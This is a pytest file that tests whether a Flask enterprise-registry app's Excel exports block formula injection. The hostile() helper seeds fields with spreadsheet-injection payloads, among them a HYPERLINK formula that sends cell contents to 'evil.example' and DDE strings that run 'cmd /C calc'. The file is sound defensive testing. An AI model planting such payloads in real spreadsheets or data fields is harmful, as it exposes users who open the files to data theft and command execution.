"""Promise 2 (issue 9): text that starts with = + - @, a tab or a CR never becomes a live
formula in any workbook the registry writes.

Every text field the exports show is seeded with such a value (firm name, former name,
legal representative, contact, phone, address, certificate and document numbers, list
titles/batches/notes, institution/team/member names, evaluation comments, audit summaries,
user display names, criterion labels, uploaded cells echoed by the error workbook, project,
award, voucher and loan texts …). Then
every export route the app has is downloaded and opened with openpyxl: no cell is a
formula, no sheet part holds an ``<f>`` element, every formula-like text cell carries the
quote prefix, and the seeded text comes back unchanged.

``EXPORTS`` names each export route; ``test_every_export_route_is_covered`` fails when the
app gains a route that produces a workbook and is not listed here.
"""
from __future__ import annotations

import inspect
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from registry.excel.exporter import FORMULA_STARTS
from registry.vocab import IMPORT_KINDS

TOWN = "浒山街道"
YEAR = 2016
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def hostile(prefix: str, label: str) -> str:
    """A value a spreadsheet would run: ``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3``, ``@SUM(…)``."""
    body = {"=": 'HYPERLINK("http://evil.example/?x="&A1,"点我")',
            "+": "cmd|' /C calc'!A0", "-": "2+3+cmd|' /C calc'!A0", "@": "SUM(1+1)*cmd|' /C calc'!A0",
            "\t": "=1+1", "\r": "=1+1"}[prefix]
    return f"{prefix}{body}{label}"


#: field → hostile value seeded into it (each prefix used several times).
V = {
    "firm.name": hostile("=", "企业名称"),
    "firm.former": hostile("@", "曾用名"),
    "firm.legal": hostile("+", "法人"),
    "firm.contact": hostile("-", "联系人")[:50],
    "firm.phone": hostile("\t", "电话"),
    "firm.address": hostile("\r", "地址"),
    "rec.certificate": hostile("=", "证书")[:50],
    "inst.name": hostile("+", "研发机构"),
    "inst.type": hostile("@", "类型")[:50],
    "inst.document": hostile("-", "机构文号"),
    "inst.note": hostile("\t", "机构备注"),
    "change.document": hostile("=", "晋级文号"),
    "change.note": hostile("+", "晋级说明"),
    "team.name": hostile("=", "团队"),
    "team.leader": hostile("@", "带头人")[:50],
    "team.field": hostile("-", "研究方向"),
    "member.name": hostile("+", "成员")[:50],
    "member.title": hostile("=", "职称")[:50],
    "member.education": hostile("@", "学历")[:30],
    "evaluation.comment": hostile("\t", "考核意见"),
    "list.entry_name": hostile("@", "名单企业名称"),
    "list.entry_town": hostile("-", "名单镇")[:50],
    "list.entry_note": hostile("=", "名单备注"),
    "draft.entry_note": hostile("+", "草稿备注"),
    "criterion.label": hostile("=", "条件"),
    "list.title": hostile("=", "名单标题"),
    "list.batch": hostile("+", "批次")[:50],
    "list.document": hostile("@", "名单文号"),
    "audit.summary": hostile("-", "日志摘要"),
    "user.display": hostile("=", "用户")[:64],
    "upload.name": hostile("=", "上传名称"),
    "upload.address": hostile("@", "上传地址"),
    "upload.legal": hostile("+", "上传法人"),
    "upload.contact": hostile("-", "上传联系人"),
    "project.name": hostile("=", "项目名称"),
    "project.plan": hostile("+", "计划类别")[:100],
    "project.no": hostile("@", "项目编号")[:64],
    "project.note": hostile("-", "项目备注"),
    "award.project": hostile("\t", "获奖项目"),
    "award.award": hostile("=", "奖项")[:100],
    "award.note": hostile("@", "奖励备注"),
    "voucher.provider": hostile("+", "服务机构"),
    "voucher.note": hostile("\r", "创新券备注"),
    "loan.bank": hostile("-", "银行")[:100],
    "loan.note": hostile("=", "贷款备注"),
    "event.note": hostile("@", "还款说明"),
}


def read_back(value: str) -> str:
    """What a conforming reader gets back: XML turns a literal CR into LF (see exporter)."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


#: endpoint → (method, role, query string / form, values that must come back unchanged).
EXPORTS = {
    "firms.export": ("GET", "staff", {}, ["firm.name", "firm.former", "firm.legal", "firm.contact",
                                          "firm.phone", "firm.address"]),
    "institutions.export": ("GET", "staff", {}, ["inst.name", "firm.name", "inst.type", "inst.document",
                                                 "inst.note", "change.document", "change.note"]),
    "teams.export": ("GET", "staff", {}, ["team.name", "firm.name", "team.leader", "team.field",
                                          "member.name", "member.title", "member.education",
                                          "evaluation.comment"]),
    "lists.official": ("GET", "staff", {}, ["list.entry_name", "list.entry_town", "list.entry_note"]),
    "lists.notice_export": ("GET", "staff", {}, ["firm.name", "draft.entry_note"]),
    "lists.combined": ("GET", "staff", {"year": YEAR}, ["list.entry_name", "list.entry_town"]),
    "lists.screening_export": ("GET", "staff", {"year": YEAR}, ["firm.name"]),
    "lists.ladder_export": ("GET", "staff", {"year": YEAR}, ["firm.name"]),
    "lists.expiring_export": ("GET", "staff", {"year": YEAR}, ["firm.name", "rec.certificate"]),
    "lists.reports_export": ("GET", "staff", {"year": YEAR}, ["firm.name", "firm.contact", "firm.phone",
                                                              "rec.certificate"]),
    "stats.export": ("GET", "staff", {"year": YEAR}, []),  # figures and reference names only
    "audit.export": ("GET", "staff", {}, ["audit.summary", "user.display", "firm.name"]),
    "portal.accounts_bulk": ("POST", "staff", {}, ["firm.name", "firm.contact", "firm.phone"]),
    "portal.annual_template": ("GET", "firm", {}, []),  # blank template: headers and choices only
    "excel.template": ("GET", "staff", {}, []),  # every import kind, see _urls
    "projects.export": ("GET", "staff", {}, ["project.name", "project.plan", "project.no", "project.note",
                                             "firm.name"]),
    "awards.export": ("GET", "staff", {}, ["award.project", "award.award", "award.note", "firm.name"]),
    "vouchers.export": ("GET", "staff", {"year": YEAR}, ["voucher.provider", "voucher.note", "firm.name"]),
    "credit.export": ("GET", "staff", {}, ["loan.bank", "loan.note", "event.note", "firm.name"]),
    "excel.errors": ("GET", "staff", {"all": "1"}, ["upload.name", "upload.address", "upload.legal",
                                                    "upload.contact"]),
}


# --- which routes write a workbook --------------------------------------------------------

_WORKBOOK_HINTS = re.compile(r"xlsx\(|send_file|write_workbook|_workbook\(|spreadsheetml|XLSX")


def _writes_workbook(app, rule) -> bool:
    if rule.endpoint == "static":
        return False
    if rule.rule.endswith(".xlsx") or "export" in rule.endpoint:
        return True
    view = inspect.unwrap(app.view_functions[rule.endpoint])
    return bool(_WORKBOOK_HINTS.search(inspect.getsource(view)))


def test_every_export_route_is_covered(app):
    """A new route that produces a workbook must be added to EXPORTS (and so be checked)."""
    found = {r.endpoint for r in app.url_map.iter_rules() if _writes_workbook(app, r)}
    assert found - set(EXPORTS) == set(), f"export routes not covered by this test: {sorted(found - set(EXPORTS))}"
    assert set(EXPORTS) - found == set(), f"EXPORTS names routes the app lacks: {sorted(set(EXPORTS) - found)}"


# --- the hostile records --------------------------------------------------------------------

def _seed(make):
    """Every record kind the exports show, each text field hostile; returns URL values."""
    from registry.audit.models import AuditLog
    from registry.firms.models import AnnualData, FirmName
    from registry.institutions.models import RdInstitution, RdLevelChange
    from registry.lists.defaults import seed_default_criteria
    from registry.lists.models import CriteriaSet, TierList, TierListEntry
    from registry.teams.models import Team, TeamEvaluation, TeamMember

    s = make.session
    staff = make.user("staff", username="hostile-staff", display_name=V["user.display"])
    firm = make.firm(V["firm.name"], town=TOWN, legal_representative=V["firm.legal"],
                     contact_person=V["firm.contact"], phone=V["firm.phone"], address=V["firm.address"],
                     registered_capital=Decimal("500"), above_scale=True)
    s.add(FirmName(firm=firm, name=V["firm.former"], changed_on=date(2014, 3, 1)))
    make.recognition(firm, "high_tech", YEAR - 1, certificate_no=V["rec.certificate"])
    make.recognition(firm, "eaglet", YEAR)
    for y in (YEAR - 2, YEAR - 1):
        s.add(AnnualData(firm=firm, year=y, revenue=Decimal("3000"), rd_expense=Decimal("200"),
                         employees=80, rd_staff=12, status="accepted"))
    inst = RdInstitution(firm=firm, name=V["inst.name"], type=V["inst.type"], level="ningbo",
                         recognised_year=2015, first_recognised_year=2012, document_no=V["inst.document"],
                         status="active", note=V["inst.note"])
    inst.level_changes.append(RdLevelChange(kind="initial", to_level="cixi", year=2012))
    inst.level_changes.append(RdLevelChange(kind="promotion", from_level="cixi", to_level="ningbo", year=2015,
                                            document_no=V["change.document"], note=V["change.note"]))
    team = Team(firm=firm, name=V["team.name"], leader_name=V["team.leader"], field=V["team.field"],
                recognised_year=2013, level="cixi", status="active", projects_in_progress=2)
    team.members.append(TeamMember(name=V["member.name"], title=V["member.title"], title_grade="associate",
                                   role="leader", education=V["member.education"]))
    team.evaluations.append(TeamEvaluation(year=2015, result="good", comment=V["evaluation.comment"]))
    s.add_all([inst, team])
    published = TierList(programme=make.programme("eaglet"), year=YEAR, batch=V["list.batch"],
                         title=V["list.title"], status="published", document_no=V["list.document"],
                         created_by_id=staff.id)
    published.entries = [TierListEntry(firm=firm, seq=1, firm_name=V["list.entry_name"], uscc=firm.uscc,
                                       town_name=V["list.entry_town"], note=V["list.entry_note"])]
    draft = TierList(programme=make.programme("gazelle"), year=YEAR, batch="", title="公示名单",
                     status="draft", created_by_id=staff.id)
    draft.entries = [TierListEntry(firm=firm, seq=1, firm_name=firm.name, uscc=firm.uscc,
                                   note=V["draft.entry_note"])]
    s.add_all([published, draft])
    _seed_archive(s, firm)
    s.add(AuditLog(user_id=staff.id, action="update", entity_type="firm", entity_id=firm.id,
                   firm_id=firm.id, summary=V["audit.summary"],
                   before={"name": V["firm.former"]}, after={"name": V["firm.name"]}))
    s.flush()
    seed_default_criteria(None, YEAR)
    cset = s.scalar(__import__("sqlalchemy").select(CriteriaSet).where(
        CriteriaSet.programme_id == make.programme("eaglet").id, CriteriaSet.year == YEAR))
    assert cset is not None and cset.criteria, "default criteria for 雏鹰 are missing"
    cset.criteria[0].label = V["criterion.label"]
    s.commit()
    return {"list_id": published.id, "draft_id": draft.id, "programme": make.programme("eaglet").id,
            "staff": staff}


def _seed_archive(s, firm) -> None:
    """A project with a tracked step, an award, a voucher and a loan with a repayment."""
    from registry.awards.models import Award
    from registry.credit.models import CreditEvent, CreditLoan, CreditPool
    from registry.projects.models import Project, ProjectMilestone
    from registry.vouchers.models import VoucherApplication, VoucherBudget

    project = Project(firm=firm, name=V["project.name"], plan=V["project.plan"], project_no=V["project.no"],
                      level="ningbo", role="lead", start_year=2015, end_year=2017, funding=Decimal("50"),
                      status="in_progress", note=V["project.note"])
    project.milestones.append(ProjectMilestone(kind="midterm", title="中期检查", due_on=date(2016, 6, 30)))
    s.add(project)
    s.add(Award(firm=firm, project_name=V["award.project"], award=V["award.award"], level="ningbo",
                grade="second", year=2015, firm_rank=1, note=V["award.note"]))
    s.add(VoucherBudget(year=YEAR, amount=Decimal("300")))
    s.add(VoucherApplication(firm=firm, year=YEAR, provider=V["voucher.provider"], purpose="testing",
                             requested=Decimal("5"), status="approved", issued=Decimal("5"),
                             issued_on=date(YEAR, 5, 1), note=V["voucher.note"]))
    s.add(CreditPool(year=YEAR, size=Decimal("2000"), compensation_rate=Decimal("40"),
                     eligible_programmes=["high_tech"]))
    loan = CreditLoan(firm=firm, pool_year=YEAR, bank=V["loan.bank"], amount=Decimal("200"),
                      loan_on=date(YEAR, 3, 1), due_on=date(YEAR + 1, 2, 28), status="outstanding",
                      note=V["loan.note"])
    loan.events.append(CreditEvent(kind="repayment", occurred_on=date(YEAR, 9, 1), amount=Decimal("50"),
                                   note=V["event.note"]))
    s.add(loan)


def _hostile_upload() -> bytes:
    """A firm roster whose every text cell is hostile, with a bad USCC so the row is an error."""
    wb = Workbook()
    ws = wb.active
    ws.title = "企业名录"
    ws.append(["企业名称", "统一社会信用代码", "所在镇（街道）", "法定代表人", "联系人", "地址"])
    row = [V["upload.name"], "91330282BAD", TOWN, V["upload.legal"], V["upload.contact"], V["upload.address"]]
    for col, value in enumerate(row, 1):
        cell = ws.cell(row=2, column=col)
        cell.value = value
        cell.data_type = "s"  # text, not a formula, in the file we send
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- reading a workbook back ----------------------------------------------------------------

def _check_workbook(data: bytes, where: str) -> list[str]:
    """Every text cell; fails on a formula cell, an ``<f>`` element or a missing quote prefix."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{where}: {name} holds a formula element"
    book = load_workbook(io.BytesIO(data))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, f"{where}: {ws.title}!{cell.coordinate} lacks the quote prefix"
    return texts


def _urls(app, seeded):
    from flask import url_for

    with app.test_request_context():
        for endpoint, (method, role, query, expected) in EXPORTS.items():
            if endpoint == "excel.template":
                for kind in IMPORT_KINDS:
                    yield endpoint, method, role, url_for(endpoint, kind=kind), expected
                continue
            args = {}
            if endpoint == "lists.official":
                args["list_id"] = seeded["list_id"]
            elif endpoint == "lists.notice_export":
                args["list_id"] = seeded["draft_id"]
            elif endpoint == "excel.errors":
                args["batch_id"] = seeded["batch_id"]
            elif endpoint == "lists.screening_export":
                args["programme"] = seeded["programme"]
            yield endpoint, method, role, url_for(endpoint, **args, **(query if method == "GET" else {})), expected


def _client(app, make, role, firm=None):
    user = make.user(role=role, password="correct-horse-1", firm=firm)
    make.session.commit()
    client = app.test_client()
    resp = client.post("/auth/login", data={"username": user.username, "password": "correct-horse-1"})
    assert resp.status_code == 302
    return client


def test_every_export_keeps_hostile_text_inert_and_unchanged(app, make):
    seeded = _seed(make)
    staff = _client(app, make, "staff")
    resp = staff.post("/excel/upload", data={"file": (io.BytesIO(_hostile_upload()), "名录.xlsx"), "kind": "firms"},
                      content_type="multipart/form-data")
    assert resp.status_code == 302 and re.search(r"/excel/\d+$", resp.headers["Location"]), resp.status_code
    seeded["batch_id"] = int(resp.headers["Location"].rsplit("/", 1)[1])
    # the firm user belongs to another firm: the hostile one must still lack an account
    clients = {"staff": staff, "firm": _client(app, make, "firm", firm=make.firm(town=TOWN))}

    seeded_values = {read_back(v) for v in V.values()}
    failures, seen = [], set()
    for endpoint, method, role, url, expected in _urls(app, seeded):
        resp = clients[role].open(url, method=method)
        seen.add(endpoint)
        if resp.status_code != 200 or resp.mimetype != XLSX:
            failures.append(f"{method} {url}: {resp.status_code} {resp.mimetype}")
            continue
        texts = _check_workbook(resp.data, f"{method} {url}")
        for key in expected:
            if read_back(V[key]) not in texts:
                failures.append(f"{endpoint}: {key} not found unchanged ({V[key]!r})")
        # anything else formula-like must start with one of ours, whole (nothing cut or rewritten)
        odd = sorted(t for t in {t for t in texts if t.startswith(FORMULA_STARTS)}
                     if not any(t.startswith(v) for v in seeded_values))
        if odd:
            failures.append(f"{endpoint}: unexpected formula-like text {odd[:5]}")
    assert seen == set(EXPORTS)
    assert failures == [], "\n".join(failures)


def test_the_check_itself_catches_a_live_formula():
    """The reader used above does see a formula written the unsafe way."""
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(AssertionError, match="formula"):
        _check_workbook(out.getvalue(), "plain openpyxl")
